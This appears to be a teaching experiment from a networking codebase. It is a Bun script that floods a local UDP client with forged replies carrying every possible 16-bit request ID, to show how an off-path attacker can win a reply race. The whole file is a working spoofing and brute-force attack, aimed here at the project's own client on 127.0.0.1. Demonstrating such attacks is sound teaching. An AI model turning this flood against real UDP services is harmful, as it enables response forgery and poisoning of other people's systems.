#!/usr/bin/env bun
/**
 * An attacker who has not seen the request ID: for a second after each request it sends replies with 65,536 IDs, over
 * and over. `bun experiments/flood.ts`, then `bun udp_remote.ts client --request-id`.
 *
 * It knows where the client is, and forges the server's address: to do that without being root it sits at the server's
 * port. Of a request it looks at the sender only; what it says, ID and all, it leaves unread.
 */
import { print, repr } from "../terminal.ts";
import { Inbox, newRequestId } from "../udp_helpers.ts";

const BATCH = 64; // how many go out at once
const SECOND = 1000; // ms

const digits = newRequestId().length - "[] ".length;
const inbox = new Inbox();
const sock = await Bun.udpSocket({ hostname: "127.0.0.1", port: 1060, socket: inbox });
print(`Listening at ${repr(sock.address)}, to answer with 65,536 IDs of ${4 * digits} bits`);

for await (const [, { address, port }] of inbox) {
  const end = performance.now() + SECOND;
  for (let first = 0; performance.now() < end; first = (first + BATCH) % 65_536) {
    const replies = Array.from({ length: BATCH }, (_, i) => {
      const id = (first + i).toString(16).padStart(digits, "0");
      return [`[${id}] FAKE`, port, address];
    });
    sock.sendMany(replies.flat());
    await Bun.sleep(0);
  }
}
